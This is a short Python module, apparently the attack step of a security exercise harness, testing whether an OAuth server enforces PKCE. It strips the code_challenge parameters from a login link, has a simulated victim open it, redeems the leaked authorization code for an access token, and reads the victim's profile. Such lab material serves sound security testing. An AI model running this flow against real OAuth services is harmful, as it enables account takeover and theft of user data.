"""PKCE taken away: the server checks what is there, not what is missing."""

from urllib.parse import parse_qsl, urlencode, urlsplit

import requests


def attack(exercise):
    login = requests.get(f"{exercise.app}/login", allow_redirects=False)
    link = urlsplit(login.headers["Location"])
    request = dict(parse_qsl(link.query))
    del request["code_challenge"], request["code_challenge_method"]

    exercise.victim.opens(link._replace(query=urlencode(request)).geturl())
    if not exercise.leaks():
        return  # the server gave no code
    stolen = exercise.leaks()["callback_url"]

    answer = requests.post(
        f"{exercise.issuer}/connect/token",
        data={
            "grant_type": "authorization_code",
            "code": stolen["code"],
            "client_id": exercise.client_id,
            "redirect_uri": f"{exercise.app}/callback",
        },
    )
    if answer.ok:
        token = answer.json()["access_token"]
        bearer = {"Authorization": f"Bearer {token}"}
        requests.get(f"{exercise.issuer}/v1/profile", headers=bearer)
